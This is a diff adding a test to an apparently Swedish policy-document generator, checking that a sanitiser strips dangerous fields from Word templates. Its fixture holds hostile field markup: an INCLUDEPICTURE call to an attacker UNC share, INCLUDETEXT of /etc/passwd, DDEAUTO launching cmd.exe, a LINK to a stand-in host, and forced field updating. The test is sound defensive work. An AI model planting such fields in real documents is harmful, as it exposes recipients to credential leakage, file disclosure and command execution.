@@ -132,3 +132,50 @@ def test_an_external_entity_in_a_template_is_never_fetched(cli, tmp_path):
     if code == 0:
         with zipfile.ZipFile(tmp_path / "ut" / "ljungby-policy.docx") as archive:
             assert not any(b"HEMLIGT" in archive.read(name) for name in archive.namelist())
+
+
+_FIELDS_IN_HEADER = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "\\\\\\\\angripare\\\\dela\\\\bild.png" \\d </w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Bildtext</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>Inkluderat</w:t></w:r>'
+    '</w:fldSimple></w:p>'
+    '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "><w:r><w:t>DDE</w:t></w:r></w:fldSimple>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> LINK Excel.Sheet.8 "http://spara.invalid/x" '
+    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:r><w:t xml:space="preserve">Sida </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def test_template_fields_that_fetch_or_include_are_removed_and_update_fields_is_dropped(cli, tmp_path):
+    clean = municipal_template(tmp_path / "ren.docx").read_bytes()
+
+    def header(xml: str) -> str:
+        return xml.replace("</w:hdr>", _FIELDS_IN_HEADER + "</w:hdr>")
+
+    hostile = edit_package(clean, edits={
+        "word/header2.xml": header, "word/header1.xml": header,
+        "word/settings.xml": lambda xml: re.sub(r"(<w:settings[^>]*>)", r'\1<w:updateFields w:val="true"/>', xml,
+                                                count=1),
+    })
+    template = tmp_path / "mall.docx"
+    template.write_bytes(hostile)
+    from policygen.render.docx.template_safety import clean_template
+
+    with zipfile.ZipFile(io.BytesIO(clean_template(hostile))) as archive:
+        cleaned = {name: archive.read(name) for name in archive.namelist()}
+    everything = b"".join(cleaned.values())
+    for code in (b"INCLUDEPICTURE", b"INCLUDETEXT", b"DDEAUTO", b"LINK Excel", b"angripare", b"spara.invalid"):
+        assert code not in everything, code
+    assert b"updateFields" not in cleaned["word/settings.xml"]
+    headers = b"".join(v for k, v in cleaned.items() if k.startswith("word/header"))
+    assert b"Bildtext" in headers and b"Inkluderat" in headers     # what the field showed stays as text
+    assert b" PAGE " in headers                                    # page numbers are kept
+    code, _, err = cli("generate", EXAMPLES / "ljungby.yaml", "-o", tmp_path / "ut", "--doc", "policy",
+                       "--reference-docx", template)
+    assert code == 0, err
+    with zipfile.ZipFile(tmp_path / "ut" / "ljungby-policy.docx") as archive:
+        generated = b"".join(archive.read(name) for name in archive.namelist())
+    assert b"INCLUDEPICTURE" not in generated and b"angripare" not in generated and b"DDEAUTO" not in generated
